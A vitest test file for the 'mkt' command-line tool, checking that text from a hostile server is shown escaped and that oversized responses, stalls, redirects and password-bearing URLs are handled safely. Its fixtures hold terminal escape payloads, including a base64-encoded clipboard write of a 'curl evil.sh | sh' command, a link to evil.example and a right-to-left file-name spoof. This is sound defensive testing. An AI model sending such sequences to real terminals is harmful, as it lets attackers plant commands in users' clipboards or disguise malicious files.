// A server that answers with hostile text: escape sequences and bidi overrides in names and error
// messages reach the terminal shown escaped, never obeyed; --json keeps the bytes as they are.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runMkt, tempDir } from '../support/cli.js';
import { startServer, type TestServer } from '../support/server.js';

const CLEAR = '\u001b[2J\u001b[H';
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
const LINK = '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\';
const RLO = '\u202e';
const HOSTILE = `Ann${CLEAR}${CLIPBOARD}${LINK}${RLO}gpj.exe\u009b31m`;

let dir: { path: string; remove(): Promise<void> };
let server: TestServer | undefined;
beforeEach(async () => {
  dir = await tempDir();
});
afterEach(async () => {
  await server?.close();
  server = undefined;
  await dir.remove();
});

const mkt = (args: string[], extra: Record<string, string> = {}) =>
  runMkt(args, dir.path, {
    env: { MKT_SITE_URL: server!.url, MKT_API_KEY: 'test_hostile', MKT_HTTP_TIMEOUT: '5', ...extra },
  });

/** No raw control or bidi character but mkt's own colours; each hostile one is there, escaped. */
function expectDefused(styled: string) {
  // eslint-disable-next-line no-control-regex -- mkt's own colour and style sequences
  const text = styled.replace(/\u001b\[[0-9;]*m/g, '');
  // eslint-disable-next-line no-control-regex -- the characters that must not reach a terminal
  expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  expect(text).toContain('\\u001b[2J');
  expect(text).toContain('\\u001b]52;c;');
  expect(text).toContain('\\u202egpj.exe');
}

describe('text from a hostile server', () => {
  it('is shown escaped by whoami, piped and with colour forced, and kept as sent with --json', async () => {
    server = await startServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ id: 'usr_1', name: HOSTILE, email: `a${RLO}@example.com`, avatar_url: null }));
    });
    for (const env of [{}, { FORCE_COLOR: '1' }] as Record<string, string>[]) {
      const res = await mkt(['whoami'], env);
      expect(res.code, res.stderr).toBe(0);
      expectDefused(res.stdout);
    }
    const json = await mkt(['whoami', '--json']);
    expect(JSON.parse(json.stdout).name).toBe(HOSTILE);
  });

  it('is shown escaped in an error message', async () => {
    server = await startServer((_req, res) => {
      res.writeHead(400, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ error: { code: 'bad', message: `Refused ${HOSTILE}` } }));
    });
    const res = await mkt(['whoami']);
    expect(res.code).toBe(1);
    expectDefused(res.stderr);
    const json = await mkt(['whoami', '--json']);
    expect(JSON.parse(json.stdout).error.message).toContain(HOSTILE);
  });
});

describe('a hostile server', () => {
  it('sending 200 MB is cut off at 32 MiB: a clear error, exit 6, nothing printed', async () => {
    server = await startServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' }); // chunked: no length said
      const chunk = Buffer.alloc(1024 * 1024, 0x20);
      let sent = 0;
      res.write('{"id":"usr_1","name":"');
      const more = () => {
        while (sent < 200 && !res.destroyed) {
          sent++;
          if (!res.write(chunk)) return void res.once('drain', more);
        }
        res.end('"}');
      };
      res.on('error', () => undefined);
      more();
    });
    const res = await mkt(['whoami', '--json'], { MKT_HTTP_TIMEOUT: '60' });
    expect(res.code, res.stderr).toBe(6);
    expect(JSON.parse(res.stdout).error.message).toMatch(/larger than 32 MiB/);
    const human = await mkt(['whoami'], { MKT_HTTP_TIMEOUT: '60' });
    expect(human.code).toBe(6);
    expect(human.stdout).toBe('');
    expect(human.stderr).toMatch(/^Error: The response from http:\/\/127\.0\.0\.1:\d+ is larger than 32 MiB/);
  }, 120_000);

  it('that never finishes its answer is given MKT_HTTP_TIMEOUT for the whole request, retries included', async () => {
    const open: Array<{ destroy(): void }> = [];
    server = await startServer((req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.write('{"id":');
      const timer = setInterval(() => res.write(' '), 100);
      res.on('close', () => clearInterval(timer));
      open.push(req.socket);
    });
    const res = await mkt(['whoami'], { MKT_HTTP_TIMEOUT: '2' });
    for (const socket of open) socket.destroy();
    expect(res.code, res.stderr).toBe(6);
    expect(res.stderr).toContain('within 2 s, retries included (MKT_HTTP_TIMEOUT)');
    // One try: the deadline passed during it, so no retry was started after it.
    expect(server.seen).toHaveLength(1);
  }, 60_000);

  it('answering a redirect is an error naming the status and Location, never followed', async () => {
    const elsewhere = await startServer((_req, res) => res.end('{}'));
    try {
      server = await startServer((_req, res) => {
        res.writeHead(302, { location: `${elsewhere.url}/api/v1/whoami` });
        res.end();
      });
      const res = await mkt(['api', 'GET', '/whoami']);
      expect(res.code).toBe(1);
      expect(res.stdout).toBe('');
      expect(res.stderr).toContain(`answered 302 with Location ${elsewhere.url}/api/v1/whoami`);
      const json = await mkt(['api', 'GET', '/whoami', '--json']);
      expect(json.code).toBe(1);
      expect(JSON.parse(json.stdout).error).toMatchObject({ code: 'redirect' });
      expect(elsewhere.seen).toHaveLength(0);
    } finally {
      await elsewhere.close();
    }
  });
});

describe('a site URL with a password', () => {
  it('is refused by config set and --site-url, and never stored or printed', async () => {
    const url = 'http://ann:s3cret-pw@127.0.0.1:9/';
    const set = await runMkt(['config', 'set', 'site-url', url], dir.path);
    expect(set.code).toBe(2);
    expect(set.stderr).toContain('holds a user name or password');
    expect(set.stderr).not.toContain('s3cret-pw');
    const flag = await runMkt(['whoami', '--site-url', url], dir.path, { env: { MKT_API_KEY: 'test_x' } });
    expect(flag.code).toBe(2);
    expect(flag.stderr).toContain('holds a user name or password');
    expect(flag.stderr).not.toContain('s3cret-pw');
    const list = await runMkt(['config', 'list', '--json'], dir.path);
    expect(list.stdout).not.toContain('s3cret-pw');
  });
});
